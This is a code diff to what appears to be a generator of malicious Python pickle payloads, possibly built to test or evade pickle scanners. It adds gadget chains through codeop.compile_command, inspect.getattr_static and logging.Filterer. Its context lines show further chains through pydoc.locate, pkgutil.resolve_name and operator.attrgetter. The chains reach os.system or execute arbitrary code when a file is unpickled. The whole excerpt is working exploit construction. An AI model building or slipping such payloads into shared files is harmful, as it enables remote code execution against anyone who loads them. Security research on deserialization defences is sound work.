@@ -113,6 +113,13 @@ SOURCES: dict[str, Make] = {
         "numpy.f2py.crackfortran:param_eval", text(code(m)), b"}", b"}"
     ),
     "marshal:loads": lambda m: apply(_function(m)),
+    "codeop:compile_command": lambda m: apply(
+        call(
+            "types:FunctionType",
+            call("codeop:compile_command", text(code(m)), text("x"), text("exec")),
+            name("builtins:__dict__"),
+        )
+    ),
     "idlelib.calltip:get_entity": lambda m: call("idlelib.calltip:get_entity", text(code(m))),
     "idlelib.autocomplete:AutoComplete.get_entity": lambda m: call(
         "idlelib.autocomplete:AutoComplete.get_entity", b"N", text(code(m))
@@ -324,6 +331,17 @@ REACHERS: dict[str, Make] = {
     ),
     "pydoc:locate": lambda m: apply(call("pydoc:locate", text("os.system")), text(shell(m))),
     "pkgutil:resolve_name": lambda m: apply(call("pkgutil:resolve_name", text("os:system")), text(shell(m))),
+    "inspect:getattr_static": lambda m: apply(
+        call("inspect:getattr_static", call("builtins:__import__", text("os")), text("system")),
+        text(shell(m)),
+    ),
+    "logging:Filterer.filter": lambda m: (
+        call("logging:Filterer")
+        + b"\x940"
+        + call("logging:Filterer.addFilter", b"h\x00", _taker(m))
+        + b"0"
+        + call("logging:Filterer.filter", b"h\x00", b"N")
+    ),
     "operator:attrgetter": lambda m: apply(
         apply(call("operator:attrgetter", text("system")), call("builtins:__import__", text("os"))),
         text(shell(m)),
